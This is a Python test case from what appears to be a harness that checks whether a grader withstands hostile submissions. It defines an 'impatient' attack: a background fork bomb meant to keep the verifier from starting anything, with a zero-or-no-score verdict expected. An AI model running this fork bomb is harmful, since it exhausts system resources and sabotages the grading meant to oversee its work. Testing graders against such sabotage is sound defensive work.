"""Forks without end while it is graded, so that the verifier can start nothing.

Source: NemoClaw#809 and tracecat#3142 (one hog's failure became everybody's).
"""

from attacks.frame import Attack, Verdicts, python_daemon

ATTACK = Attack(
    "impatient",
    python_daemon("""
while True:
    with contextlib.suppress(OSError):
        while os.fork():
            pass
        signal.pause()
    time.sleep(0.01)
""")
    + "; sleep 2",
    Verdicts.ZERO_OR_NONE,
    alone=True,
)
